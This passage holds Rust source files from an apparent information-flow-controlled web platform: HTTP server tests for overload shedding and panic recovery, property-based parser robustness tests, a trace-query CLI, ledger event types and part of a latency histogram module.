                    HttpError::TooLarge(_) => Status::PAYLOAD_TOO_LARGE,
                    HttpError::UnsupportedMethod(_) => Status::METHOD_NOT_ALLOWED,
                    _ => Status::BAD_REQUEST,
                };
                let _ = Response::error(status, &e.to_string()).write_to(&mut write_half, false);
                break;
            }
        };
        let keep = request.keep_alive() && !stop.load(Ordering::SeqCst);
        let (method, path) = (request.method, request.path.clone());
        // Root span per request; a wire-propagated trace context (e.g. a
        // federation peer's `x-w5-trace`) stitches this server's tree under
        // the caller's, including the caller's sampling decision.
        let remote = request
            .header(w5_obs::TRACE_HEADER)
            .and_then(w5_obs::TraceContext::parse);
        let started = std::time::Instant::now();
        let response = {
            let _span = w5_obs::span_with_remote(
                &format!("net.http {method} {path}"),
                w5_obs::Layer::Net,
                &w5_obs::ObsLabel::empty(),
                remote.as_ref(),
            );
            engine.serve(request, peer)
        };
        let elapsed = started.elapsed();
        // The HTTP front end sees only the wire: request spans are public
        // (any label-bearing data is the platform's concern downstream).
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::HttpRequest {
                method: format!("{method}"),
                path,
                status: response.status.0,
                micros: elapsed.as_micros() as u64,
            },
        );
        w5_obs::time("net.http", &w5_obs::ObsLabel::empty(), elapsed);
        served.fetch_add(1, Ordering::Relaxed);
        lockdep::blocking("net.socket.write");
        response.write_to(&mut write_half, keep)?;
        if !keep {
            break;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::HttpClient;
    use crate::http::Method;

    fn echo_server() -> ServerHandle {
        Server::start(
            "127.0.0.1:0",
            ServerConfig::default(),
            Arc::new(|req: Request, _peer: SocketAddr| {
                Response::text(format!("{} {}", req.method, req.path))
            }),
        )
        .unwrap()
    }

    #[test]
    fn serves_and_shuts_down() {
        let h = echo_server();
        let client = HttpClient::new();
        let resp = client.get(h.addr(), "/hello").unwrap();
        assert_eq!(resp.status, Status::OK);
        assert_eq!(resp.body_string(), "GET /hello");
        assert_eq!(h.requests_served(), 1);
        h.shutdown();
        // Idempotent.
        h.shutdown();
        assert!(HttpClient::new().get(h.addr(), "/x").is_err());
    }

    #[test]
    fn keep_alive_reuses_connection() {
        let h = echo_server();
        let mut conn = HttpClient::new().connect(h.addr()).unwrap();
        for i in 0..5 {
            let resp = conn.request(&Request::get(&format!("/r{i}"))).unwrap();
            assert_eq!(resp.body_string(), format!("GET /r{i}"));
        }
        assert_eq!(h.requests_served(), 5);
        h.shutdown();
    }

    #[test]
    fn concurrent_clients() {
        let h = echo_server();
        let addr = h.addr();
        let threads: Vec<_> = (0..8)
            .map(|i| {
                std::thread::spawn(move || {
                    let c = HttpClient::new();
                    for j in 0..10 {
                        let resp = c.get(addr, &format!("/t{i}/{j}")).unwrap();
                        assert!(resp.status.is_success());
                    }
                })
            })
            .collect();
        for t in threads {
            t.join().unwrap();
        }
        assert_eq!(h.requests_served(), 80);
        h.shutdown();
    }

    #[test]
    fn bad_request_gets_400() {
        let h = echo_server();
        // Unknown method → 405.
        let mut s = TcpStream::connect(h.addr()).unwrap();
        s.write_all(b"BANANA / HTTP/1.1\r\n\r\n").unwrap();
        let mut r = buf_reader(s);
        let resp = Response::read_from(&mut r, &Limits::default()).unwrap();
        assert_eq!(resp.status, Status::METHOD_NOT_ALLOWED);
        // Malformed target → 400.
        let mut s = TcpStream::connect(h.addr()).unwrap();
        s.write_all(b"GET noslash HTTP/1.1\r\n\r\n").unwrap();
        let mut r = buf_reader(s);
        let resp = Response::read_from(&mut r, &Limits::default()).unwrap();
        assert_eq!(resp.status, Status::BAD_REQUEST);
        h.shutdown();
    }

    #[test]
    fn post_roundtrip() {
        let h = Server::start(
            "127.0.0.1:0",
            ServerConfig::default(),
            Arc::new(|req: Request, _| Response::text(String::from_utf8_lossy(&req.body).into_owned())),
        )
        .unwrap();
        let c = HttpClient::new();
        let resp = c
            .post(h.addr(), "/submit", "application/x-www-form-urlencoded", b"a=1&b=2")
            .unwrap();
        assert_eq!(resp.body_string(), "a=1&b=2");
        h.shutdown();
    }

    #[test]
    fn conn_guard_releases_slot_even_if_the_thread_never_runs() {
        // The failed-spawn path: the guard is moved into a closure that is
        // dropped without ever executing (exactly what `Builder::spawn`
        // does with it on error). The slot must come back.
        let active = Arc::new(AtomicUsize::new(0));
        let guard = ConnGuard::new(&active);
        assert_eq!(active.load(Ordering::Relaxed), 1);
        let never_run = move || {
            let _guard = guard;
        };
        drop(never_run);
        assert_eq!(
            active.load(Ordering::Relaxed),
            0,
            "a dropped connection closure must release its slot"
        );
    }

    #[test]
    fn overloaded_clients_get_503_then_eof_and_server_recovers() {
        use std::io::Read;
        use std::sync::mpsc;

        // A handler that parks until released, so one connection can pin
        // the single slot for as long as the test needs.
        let (tx, rx) = mpsc::channel::<()>();
        let rx = Mutex::new("test.fixture", rx);
        let h = Server::start(
            "127.0.0.1:0",
            ServerConfig { max_connections: 1, ..ServerConfig::default() },
            Arc::new(move |_req: Request, _peer: SocketAddr| {
                let _ = rx.lock().recv();
                Response::text("released")
            }),
        )
        .unwrap();

        // Occupy the only slot with an in-flight request.
        let mut busy = TcpStream::connect(h.addr()).unwrap();
        busy.write_all(b"GET /hold HTTP/1.1\r\n\r\n").unwrap();
        for _ in 0..2000 {
            if h.active_connections() >= 1 {
                break;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        assert_eq!(h.active_connections(), 1, "busy connection never registered");

        // The next client has already sent a request; it must receive the
        // 503 followed promptly by EOF — not hang until its read timeout.
        let mut rejected = TcpStream::connect(h.addr()).unwrap();
        rejected.write_all(b"GET /x HTTP/1.1\r\n\r\n").unwrap();
        rejected.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut buf = Vec::new();
        rejected.read_to_end(&mut buf).expect("socket must reach EOF after the 503");
        let text = String::from_utf8_lossy(&buf);
        assert!(text.starts_with("HTTP/1.1 503"), "got: {text}");
        // The shed carries a retry hint and a fault-report body, same
        // contract as the pipeline's admission stage.
        assert!(text.to_ascii_lowercase().contains("retry-after: 1"), "got: {text}");
        assert!(text.contains("fault app=net/server kind=infrastructure"), "got: {text}");

        // Release the parked handler; the slot drains and new clients are
        // served again — the counter balanced.
        tx.send(()).unwrap();
        let mut r = buf_reader(busy);
        let resp = Response::read_from(&mut r, &Limits::default()).unwrap();
        assert_eq!(resp.status, Status::OK);
        drop(r);
        for _ in 0..2000 {
            if h.active_connections() == 0 {
                break;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        assert_eq!(h.active_connections(), 0, "slot leaked after connection closed");
        // Disconnect the channel so later handler invocations return at
        // once instead of parking.
        drop(tx);
        let resp = HttpClient::new().get(h.addr(), "/again").unwrap();
        assert_eq!(resp.status, Status::OK);
        h.shutdown();
    }

    fn panicky_handler() -> Arc<dyn Handler> {
        Arc::new(|req: Request, _peer: SocketAddr| {
            if req.path == "/boom" {
                panic!("handler exploded");
            }
            Response::text("fine")
        })
    }

    #[test]
    fn pipelined_server_turns_handler_panic_into_500_and_recovers() {
        let h = Server::start("127.0.0.1:0", ServerConfig::default(), panicky_handler()).unwrap();
        let c = HttpClient::new();
        // The worker catches the panic and the connection gets a real 500.
        let resp = c.get(h.addr(), "/boom").unwrap();
        assert_eq!(resp.status, Status::INTERNAL_ERROR);
        // The connection slot drains (the conn thread never panicked).
        for _ in 0..2000 {
            if h.active_connections() == 0 {
                break;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        assert_eq!(h.active_connections(), 0, "slot leaked across a handler panic");
        // The worker pool is intact: the next request is admitted and served.
        let resp = c.get(h.addr(), "/ok").unwrap();
        assert_eq!(resp.status, Status::OK);
        h.shutdown();
    }

    #[test]
    fn reference_server_releases_slot_when_handler_panics() {
        use std::io::Read;
        let h =
            ReferenceServer::start("127.0.0.1:0", ServerConfig::default(), panicky_handler())
                .unwrap();
        // Seed semantics: the panic unwinds the connection thread, so the
        // client sees EOF with no response…
        let mut s = TcpStream::connect(h.addr()).unwrap();
        s.write_all(b"GET /boom HTTP/1.1\r\n\r\n").unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut buf = Vec::new();
        let _ = s.read_to_end(&mut buf);
        assert!(buf.is_empty(), "reference engine should not answer a panicked request");
        // …but the ConnGuard still releases the slot, so the active count
        // returns to zero and the next request is admitted.
        for _ in 0..2000 {
            if h.active_connections() == 0 {
                break;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        assert_eq!(h.active_connections(), 0, "panicked connection leaked its slot");
        let resp = HttpClient::new().get(h.addr(), "/ok").unwrap();
        assert_eq!(resp.status, Status::OK);
        h.shutdown();
    }

    #[test]
    fn reference_server_matches_seed_semantics_for_normal_traffic() {
        let h = ReferenceServer::start(
            "127.0.0.1:0",
            ServerConfig::default(),
            Arc::new(|req: Request, _peer: SocketAddr| {
                Response::text(format!("{} {}", req.method, req.path))
            }),
        )
        .unwrap();
        let mut conn = HttpClient::new().connect(h.addr()).unwrap();
        for i in 0..3 {
            let resp = conn.request(&Request::get(&format!("/r{i}"))).unwrap();
            assert_eq!(resp.body_string(), format!("GET /r{i}"));
        }
        assert_eq!(h.requests_served(), 3);
        h.shutdown();
    }

    #[test]
    fn method_routing_in_handler() {
        let h = Server::start(
            "127.0.0.1:0",
            ServerConfig::default(),
            Arc::new(|req: Request, _| {
                if req.method == Method::Post {
                    Response::new(Status::CREATED)
                } else {
                    Response::new(Status::OK)
                }
            }),
        )
        .unwrap();
        let c = HttpClient::new();
        assert_eq!(c.get(h.addr(), "/").unwrap().status, Status::OK);
        assert_eq!(
            c.post(h.addr(), "/", "text/plain", b"x").unwrap().status,
            Status::CREATED
        );
        h.shutdown();
    }
}
