//! Robustness properties for the HTTP front end: the parser must never
//! panic and must never over-allocate, whatever bytes arrive from the
//! network.

use proptest::prelude::*;
use std::io::Cursor;
use w5_net::http::{Limits, Request, Response};

proptest! {
    /// Arbitrary bytes: parse or error, never panic.
    #[test]
    fn request_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        let mut r = Cursor::new(bytes);
        let _ = Request::read_from(&mut r, &Limits::default());
    }

    /// Same for the response parser (client side).
    #[test]
    fn response_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        let mut r = Cursor::new(bytes);
        let _ = Response::read_from(&mut r, &Limits::default());
    }

    /// HTTP-shaped garbage: structured request lines with hostile headers.
    #[test]
    fn structured_garbage_never_panics(
        method in "[A-Z]{0,8}",
        target in "[ -~]{0,40}",
        headers in proptest::collection::vec(("[ -~]{0,20}", "[ -~]{0,20}"), 0..6),
        body in proptest::collection::vec(any::<u8>(), 0..64),
    ) {
        let mut raw = format!("{method} {target} HTTP/1.1\r\n").into_bytes();
        for (k, v) in &headers {
            raw.extend_from_slice(format!("{k}: {v}\r\n").as_bytes());
        }
        raw.extend_from_slice(b"\r\n");
        raw.extend_from_slice(&body);
        let mut r = Cursor::new(raw);
        let _ = Request::read_from(&mut r, &Limits::default());
    }

    /// A parsed request round-trips through write_to → read_from.
    #[test]
    fn request_roundtrip(
        path_seg in "[a-z0-9]{1,12}",
        query in "[a-z0-9=&]{0,24}",
        body in proptest::collection::vec(any::<u8>(), 0..64),
    ) {
        let mut req = Request::get(&format!("/{path_seg}"));
        req.method = w5_net::Method::Post;
        req.query_raw = query;
        req.body = bytes::Bytes::from(body);
        req.headers.insert("host".into(), "w5.example".into());
        let mut buf = Vec::new();
        req.write_to(&mut buf).unwrap();
        let mut r = Cursor::new(buf);
        let parsed = Request::read_from(&mut r, &Limits::default()).unwrap();
        prop_assert_eq!(parsed.path, req.path);
        prop_assert_eq!(parsed.query_raw, req.query_raw);
        prop_assert_eq!(parsed.body, req.body);
    }

    /// Percent-encoding round-trips arbitrary unicode.
    #[test]
    fn percent_roundtrip(s in ".{0,64}") {
        use w5_net::encoding::{percent_decode, percent_encode};
        prop_assert_eq!(percent_decode(&percent_encode(&s)), s);
    }

    /// The DNS query parser never panics on arbitrary packets.
    #[test]
    fn dns_parser_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..128)) {
        let _ = w5_net::dns::parse_query(&bytes);
        let _ = w5_net::dns::parse_response(&bytes);
    }
}
