//! What two differently-cleared auditors see in the same ledger.
//!
//! Records a handful of public and secret-labeled events, then prints the
//! JSON snapshot for a fully-cleared auditor next to the one for an
//! empty-clearance viewer — the latter gets only public events, dense
//! seqs, and quantized aggregates.
//!
//! Run with: `cargo run -p w5-obs --example snapshot`

use w5_obs::{EventKind, Ledger, ObsLabel};

fn main() {
    let ledger = Ledger::new();
    let secret = ObsLabel::singleton(7);

    for i in 0..3 {
        ledger.record(
            &ObsLabel::empty(),
            EventKind::RouteResolve { path: format!("/app/photos/{i}"), matched: true },
        );
    }
    ledger.record(
        &secret,
        EventKind::StoreRead { path: "/bob/diary".into(), bytes: 512, allowed: true },
    );
    ledger.record(
        &secret,
        EventKind::ExportCheck { app: "devA/photos".into(), allowed: false, blocked_tags: 1 },
    );
    ledger.time("platform.export_check", &secret, std::time::Duration::from_micros(42));

    println!("=== cleared auditor (tag 7) ===");
    println!("{}", ledger.snapshot_json(&secret).unwrap());
    println!();
    println!("=== empty clearance ===");
    println!("{}", ledger.snapshot_json(&ObsLabel::empty()).unwrap());
}
