//! w5trace — causal-trace query CLI.
//!
//! Reads one or more `TraceView` JSON exports (produced by
//! `Ledger::traces_json`, e.g. via the `trace_smoke` harness), merges
//! their spans — exports from different providers stitch into one tree
//! when a trace crossed the federation wire — and answers queries:
//!
//! ```text
//! w5trace [--tree] [--critical-path] [--slowest N] [--json]
//!         [--clearance empty|all|T1,T2,...] TRACES.json...
//! ```
//!
//! Clearance is fail-closed: without `--clearance` the CLI re-redacts
//! every labeled span exactly as `Ledger::trace_view` would for an
//! empty-clearance viewer (names hidden, timings floored). `--clearance
//! all` trusts the export's own gate and passes spans through; a comma
//! list of tag ids grants exactly those tags. Redaction composes — a
//! span the export already redacted is empty-labeled and passes any
//! clearance unchanged.
//!
//! Exit codes: `0` = ok, `2` = usage or input error.

#![forbid(unsafe_code)]

use std::process::ExitCode;
use w5_obs::trace::{
    critical_path, layer_attribution, redact_spans, render_tree, slowest_traces, trace_ids,
};
use w5_obs::{ObsLabel, SpanRecord, TraceView};

const USAGE: &str = "usage: w5trace [--tree] [--critical-path] [--slowest N] [--json]
               [--clearance empty|all|T1,T2,...] TRACES.json...

  --tree           render each trace as an indented span tree
  --critical-path  per trace: the slowest root-to-leaf chain and per-layer self time
  --slowest N      rank the N slowest traces by root span duration
  --json           emit the clearance-gated span list as JSON
  --clearance C    viewer clearance: 'empty' (default, fail closed), 'all'
                   (trust the export's gate), or comma-separated tag ids";

enum Clearance {
    /// Re-redact with this label (default: empty).
    Label(ObsLabel),
    /// Pass spans through as the export gated them.
    All,
}

fn parse_clearance(s: &str) -> Result<Clearance, String> {
    match s {
        "empty" => Ok(Clearance::Label(ObsLabel::empty())),
        "all" => Ok(Clearance::All),
        list => {
            let mut tags = Vec::new();
            for part in list.split(',') {
                let part = part.trim();
                if part.is_empty() {
                    continue;
                }
                tags.push(
                    part.parse::<u64>()
                        .map_err(|_| format!("bad tag id {part:?} in clearance"))?,
                );
            }
            Ok(Clearance::Label(ObsLabel::from_tags(tags)))
        }
    }
}

fn main() -> ExitCode {
    let mut tree = false;
    let mut crit = false;
    let mut json = false;
    let mut slowest: Option<usize> = None;
    let mut clearance = Clearance::Label(ObsLabel::empty());
    let mut files: Vec<String> = Vec::new();

    let mut argv = std::env::args().skip(1);
    while let Some(arg) = argv.next() {
        match arg.as_str() {
            "--tree" => tree = true,
            "--critical-path" => crit = true,
            "--json" => json = true,
            "--slowest" => {
                let Some(v) = argv.next() else {
                    eprintln!("w5trace: --slowest requires a count\n{USAGE}");
                    return ExitCode::from(2);
                };
                match v.parse::<usize>() {
                    Ok(n) => slowest = Some(n),
                    Err(_) => {
                        eprintln!("w5trace: bad count {v:?}\n{USAGE}");
                        return ExitCode::from(2);
                    }
                }
            }
            "--clearance" => {
                let Some(v) = argv.next() else {
                    eprintln!("w5trace: --clearance requires a value\n{USAGE}");
                    return ExitCode::from(2);
                };
                match parse_clearance(&v) {
                    Ok(c) => clearance = c,
                    Err(e) => {
                        eprintln!("w5trace: {e}\n{USAGE}");
                        return ExitCode::from(2);
                    }
                }
            }
            "--help" | "-h" => {
                println!("{USAGE}");
                return ExitCode::SUCCESS;
            }
            other if other.starts_with('-') => {
                eprintln!("w5trace: unknown flag {other:?}\n{USAGE}");
                return ExitCode::from(2);
            }
            file => files.push(file.to_string()),
        }
    }

    if files.is_empty() {
        eprintln!("w5trace: no trace exports given\n{USAGE}");
        return ExitCode::from(2);
    }

    // Merge every export's spans; files from different providers carry
    // disjoint span ids within a shared trace id, so stitching is a
    // plain concatenation.
    let mut spans: Vec<SpanRecord> = Vec::new();
    let mut export_redacted = 0u64;
    for file in &files {
        let raw = match std::fs::read_to_string(file) {
            Ok(r) => r,
            Err(e) => {
                eprintln!("w5trace: {file}: {e}");
                return ExitCode::from(2);
            }
        };
        let view: TraceView = match serde_json::from_str(&raw) {
            Ok(v) => v,
            Err(e) => {
                eprintln!("w5trace: {file}: not a TraceView export: {e}");
                return ExitCode::from(2);
            }
        };
        export_redacted += view.redacted_spans;
        spans.extend(view.spans);
    }

    let (spans, cli_redacted) = match &clearance {
        Clearance::All => (spans, 0),
        Clearance::Label(label) => redact_spans(&spans, label),
    };

    if json {
        let gate = match &clearance {
            Clearance::All => None,
            Clearance::Label(l) => Some(l.clone()),
        };
        let view = TraceView {
            clearance: gate.unwrap_or_else(ObsLabel::empty),
            spans,
            redacted_spans: export_redacted + cli_redacted,
        };
        match serde_json::to_string_pretty(&view) {
            Ok(s) => println!("{s}"),
            Err(e) => {
                eprintln!("w5trace: serialize failed: {e}");
                return ExitCode::from(2);
            }
        }
        return ExitCode::SUCCESS;
    }

    let traces = trace_ids(&spans);
    println!(
        "{} trace(s), {} span(s), {} redacted ({} by export, {} by clearance gate)",
        traces.len(),
        spans.len(),
        export_redacted + cli_redacted,
        export_redacted,
        cli_redacted,
    );

    if let Some(n) = slowest {
        println!("\nslowest {n} trace(s) by root duration:");
        for (trace, dur) in slowest_traces(&spans, n) {
            println!("  trace {trace:016x}  {dur}µs");
        }
    }

    if tree {
        println!();
        print!("{}", render_tree(&spans));
    }

    if crit {
        for trace in &traces {
            println!("\ncritical path, trace {trace:016x}:");
            for step in critical_path(&spans, *trace) {
                println!(
                    "  {:<40} [{:?}] total {}µs  self {}µs",
                    step.name, step.layer, step.total_us, step.self_us
                );
            }
            println!("  per-layer self time:");
            for (layer, us) in layer_attribution(&spans, *trace) {
                println!("    {layer:<10} {us}µs");
            }
        }
    }

    ExitCode::SUCCESS
}
