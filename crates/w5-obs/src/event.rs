//! Typed ledger events.
//!
//! One flat enum covers all five instrumented layers; [`EventKind::layer`]
//! maps a variant to the layer whose counters it bumps, and
//! [`EventKind::denied`] marks the events every audit consumer cares about
//! (refused flows are always written to the ring, never sampled away).

use crate::label::ObsLabel;

/// The stack layer an event originated from.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize,
)]
pub enum Layer {
    /// Process table, IPC, scheduler (`w5-kernel`).
    Kernel,
    /// Flow rules and tag registry (`w5-difc`).
    Difc,
    /// Perimeter, declassifiers, sanitizer, launcher (`w5-platform`).
    Platform,
    /// HTTP server and router (`w5-net`).
    Net,
    /// Labeled filesystem and database (`w5-store`).
    Store,
}

impl Layer {
    /// All layers, in counter-index order.
    pub const ALL: [Layer; 5] =
        [Layer::Kernel, Layer::Difc, Layer::Platform, Layer::Net, Layer::Store];

    /// Stable lowercase name (JSON keys).
    pub fn name(self) -> &'static str {
        match self {
            Layer::Kernel => "kernel",
            Layer::Difc => "difc",
            Layer::Platform => "platform",
            Layer::Net => "net",
            Layer::Store => "store",
        }
    }

    /// Counter-array index.
    pub(crate) fn index(self) -> usize {
        match self {
            Layer::Kernel => 0,
            Layer::Difc => 1,
            Layer::Platform => 2,
            Layer::Net => 3,
            Layer::Store => 4,
        }
    }
}

/// What happened. Field conventions: process ids are the kernel's raw
/// `u64`s (0 = none/trusted), byte counts are payload sizes, `allowed`
/// is the decision outcome.
#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
pub enum EventKind {
    // ---- kernel ----
    /// A process was created (trusted create or checked spawn).
    ProcSpawn {
        /// New process id.
        pid: u64,
        /// Parent process id (0 for trusted creation).
        parent: u64,
        /// Audit name.
        name: String,
    },
    /// An IPC send was checked for delivery.
    IpcSend {
        /// Sender pid.
        from: u64,
        /// Receiver pid.
        to: u64,
        /// Payload bytes.
        bytes: u64,
        /// False when the flow rules dropped the message.
        delivered: bool,
    },
    /// A message was dequeued from a mailbox.
    IpcRecv {
        /// Receiving pid.
        pid: u64,
        /// Payload bytes.
        bytes: u64,
    },
    /// The scheduler granted a task a slice of virtual time.
    ScheduleQuantum {
        /// The scheduled pid.
        pid: u64,
        /// Virtual ticks executed.
        ticks: u64,
    },
    // ---- difc ----
    /// A flow-rule check ran (send admissibility, label change, read/write
    /// admissibility).
    LabelCheck {
        /// Which rule: `"flow"`, `"change"`, `"read"`, `"write"`.
        op: String,
        /// Did the rule bless the operation?
        allowed: bool,
    },
    /// A tag was allocated in the registry.
    TagCreate {
        /// Raw tag id.
        tag: u64,
        /// Distribution kind (`"export"`, `"write"`, `"read"`).
        kind: String,
    },
    /// A process received creator capabilities for a tag.
    TagGrant {
        /// The receiving pid.
        pid: u64,
        /// Raw tag id.
        tag: u64,
    },
    /// Capabilities moved in or out of a process's private bag.
    CapabilityUse {
        /// The pid whose bag changed.
        pid: u64,
        /// `"grant"` or `"drop"`.
        op: String,
        /// Number of capabilities moved.
        count: u64,
    },
    // ---- platform ----
    /// The export perimeter ruled on an outgoing response.
    ExportCheck {
        /// Application that produced the response.
        app: String,
        /// Was the export permitted?
        allowed: bool,
        /// Number of secrecy tags that blocked it (0 iff allowed).
        blocked_tags: u64,
    },
    /// A declassifier was consulted.
    DeclassifierInvoke {
        /// Declassifier name.
        name: String,
        /// Its verdict.
        allowed: bool,
    },
    /// The HTML sanitizer processed an outgoing document.
    SanitizerRun {
        /// Total scripts/handlers/URLs removed.
        removed: u64,
    },
    /// The static configuration auditor (`w5-analyze`) reported a finding,
    /// e.g. at app-registration time.
    AuditFinding {
        /// Stable lint code, e.g. `"W5A002"`.
        code: String,
        /// Severity name (`"error"`, `"warning"`, `"info"`).
        severity: String,
        /// What the finding is about (tag name, declassifier, app key).
        subject: String,
        /// Human-readable finding.
        message: String,
    },
    // ---- net ----
    /// An HTTP request completed.
    HttpRequest {
        /// Request method.
        method: String,
        /// Request path.
        path: String,
        /// Response status code.
        status: u16,
        /// Wall-clock handling time in microseconds.
        micros: u64,
    },
    /// The router resolved (or failed to resolve) a path.
    RouteResolve {
        /// The path looked up.
        path: String,
        /// Did any route match?
        matched: bool,
    },
    /// The request pipeline admitted a request into its principal-class
    /// queue. Recorded under the principal's secrecy label, so a hidden
    /// principal's queue activity is clearance-gated in ledger views.
    QueueAdmit {
        /// Principal-class key (`"anon"`, `"session:<user>"`, `"app:<key>"`).
        class: String,
        /// The worker-pool shard the class hashes to.
        shard: u64,
        /// The class queue depth after this admit.
        depth: u64,
    },
    /// Admission control shed a request (class queue full, class table
    /// full, or an injected `net.queue_full` fault). Sheds are denials:
    /// always written to the ring, never sampled away.
    QueueShed {
        /// Principal-class key.
        class: String,
        /// The worker-pool shard the class hashes to.
        shard: u64,
        /// The class queue depth that triggered the shed.
        depth: u64,
        /// The `Retry-After` seconds sent, computed from `depth` only.
        retry_after: u64,
    },
    /// Worker-pool occupancy sampled at dequeue time (busy workers out of
    /// the shard's total).
    WorkerOccupancy {
        /// The shard sampled.
        shard: u64,
        /// Workers executing a request, including the sampling one.
        busy: u64,
        /// Workers in the shard.
        workers: u64,
    },
    // ---- store ----
    /// A labeled read (file or row) was attempted.
    StoreRead {
        /// Path or table.
        path: String,
        /// Bytes returned (0 on refusal).
        bytes: u64,
        /// Did the labels admit the read?
        allowed: bool,
    },
    /// A labeled write/create/delete was attempted.
    StoreWrite {
        /// Path or table.
        path: String,
        /// Bytes written.
        bytes: u64,
        /// Did the labels admit the write?
        allowed: bool,
    },
}

impl EventKind {
    /// The layer whose counters this event bumps.
    pub fn layer(&self) -> Layer {
        match self {
            EventKind::ProcSpawn { .. }
            | EventKind::IpcSend { .. }
            | EventKind::IpcRecv { .. }
            | EventKind::ScheduleQuantum { .. } => Layer::Kernel,
            EventKind::LabelCheck { .. }
            | EventKind::TagCreate { .. }
            | EventKind::TagGrant { .. }
            | EventKind::CapabilityUse { .. } => Layer::Difc,
            EventKind::ExportCheck { .. }
            | EventKind::DeclassifierInvoke { .. }
            | EventKind::SanitizerRun { .. }
            | EventKind::AuditFinding { .. } => Layer::Platform,
            EventKind::HttpRequest { .. }
            | EventKind::RouteResolve { .. }
            | EventKind::QueueAdmit { .. }
            | EventKind::QueueShed { .. }
            | EventKind::WorkerOccupancy { .. } => Layer::Net,
            EventKind::StoreRead { .. } | EventKind::StoreWrite { .. } => Layer::Store,
        }
    }

    /// True when the event records a refused operation (these are always
    /// written to the ring).
    pub fn denied(&self) -> bool {
        match self {
            EventKind::IpcSend { delivered, .. } => !delivered,
            EventKind::LabelCheck { allowed, .. }
            | EventKind::ExportCheck { allowed, .. }
            | EventKind::DeclassifierInvoke { allowed, .. }
            | EventKind::StoreRead { allowed, .. }
            | EventKind::StoreWrite { allowed, .. } => !allowed,
            // Error-severity audit findings are config-level flow refusals:
            // always written to the ring, never sampled away.
            EventKind::AuditFinding { severity, .. } => severity == "error",
            // A shed is the admission stage refusing service.
            EventKind::QueueShed { .. } => true,
            _ => false,
        }
    }
}

/// One ledger entry: a sequence number, the secrecy label of the flow the
/// event describes, and the typed payload.
#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct Event {
    /// Monotone sequence number. In a view where any event was withheld,
    /// sequence numbers are re-issued densely so that gaps cannot leak the
    /// count of hidden events (see `DESIGN.md` §9).
    pub seq: u64,
    /// Secrecy label of the described flow.
    pub secrecy: ObsLabel,
    /// What happened.
    pub kind: EventKind,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layer_mapping_is_total() {
        let samples = [
            EventKind::ProcSpawn { pid: 1, parent: 0, name: "x".into() },
            EventKind::LabelCheck { op: "flow".into(), allowed: true },
            EventKind::ExportCheck { app: "a/b".into(), allowed: false, blocked_tags: 1 },
            EventKind::HttpRequest { method: "GET".into(), path: "/".into(), status: 200, micros: 1 },
            EventKind::StoreRead { path: "/f".into(), bytes: 3, allowed: true },
        ];
        let layers: Vec<Layer> = samples.iter().map(EventKind::layer).collect();
        assert_eq!(layers, Layer::ALL.to_vec());
    }

    #[test]
    fn denial_flags() {
        assert!(EventKind::IpcSend { from: 1, to: 2, bytes: 0, delivered: false }.denied());
        assert!(!EventKind::IpcSend { from: 1, to: 2, bytes: 0, delivered: true }.denied());
        assert!(EventKind::StoreWrite { path: "/x".into(), bytes: 0, allowed: false }.denied());
        assert!(!EventKind::ScheduleQuantum { pid: 1, ticks: 5 }.denied());
    }

    #[test]
    fn event_json_roundtrip() {
        let e = Event {
            seq: 42,
            secrecy: ObsLabel::from_tags([3]),
            kind: EventKind::ExportCheck { app: "devA/photos".into(), allowed: false, blocked_tags: 1 },
        };
        let s = serde_json::to_string(&e).unwrap();
        let back: Event = serde_json::from_str(&s).unwrap();
        assert_eq!(back, e);
    }
}
