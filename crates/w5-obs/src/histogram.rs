//! Log-bucketed latency histograms.
//!
//! Promoted from `w5-sim` (which now re-exports this module) so the ledger
//! and the experiment harnesses share one implementation. Buckets are
//! powers of two subdivided 16 ways, giving ~4% worst-case resolution from
//! nanoseconds to minutes.

use std::time::Duration;

/// A histogram over nanosecond values with ~4% resolution buckets
/// (powers of 2 subdivided 16 ways), good from nanoseconds to minutes.
#[derive(Clone, Debug)]
pub struct Histogram {
    counts: Vec<u64>,
    total: u64,
    sum_ns: u128,
    min_ns: u64,
    max_ns: u64,
}

const SUB: u64 = 16;

fn bucket_of(ns: u64) -> usize {
    if ns < SUB {
        return ns as usize;
    }
    let exp = 63 - ns.leading_zeros() as u64;
    let base = (exp - 3) * SUB;
    let sub = (ns >> (exp - 4)) - SUB;
    (base + sub) as usize
}

fn bucket_low(bucket: usize) -> u64 {
    let b = bucket as u64;
    if b < SUB {
        return b;
    }
    let exp = b / SUB + 3;
    let sub = b % SUB;
    (SUB + sub) << (exp - 4)
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram::new()
    }
}

impl Histogram {
    /// An empty histogram.
    pub fn new() -> Histogram {
        Histogram {
            counts: vec![0; (64 * SUB) as usize],
            total: 0,
            sum_ns: 0,
            min_ns: u64::MAX,
            max_ns: 0,
        }
    }

    /// Record a duration.
    pub fn record(&mut self, d: Duration) {
        self.record_ns(d.as_nanos().min(u64::MAX as u128) as u64);
    }

    /// Record raw nanoseconds.
    pub fn record_ns(&mut self, ns: u64) {
        let b = bucket_of(ns).min(self.counts.len() - 1);
        self.counts[b] += 1;
        self.total += 1;
        self.sum_ns += ns as u128;
        self.min_ns = self.min_ns.min(ns);
        self.max_ns = self.max_ns.max(ns);
    }

    /// Number of samples.
    pub fn count(&self) -> u64 {
        self.total
    }

    /// Mean in nanoseconds.
    pub fn mean_ns(&self) -> f64 {
        if self.total == 0 {
            0.0
        } else {
            self.sum_ns as f64 / self.total as f64
        }
    }

    /// Approximate percentile (0.0..=1.0), as the lower bound of the
    /// containing bucket.
    pub fn percentile_ns(&self, p: f64) -> u64 {
        if self.total == 0 {
            return 0;
        }
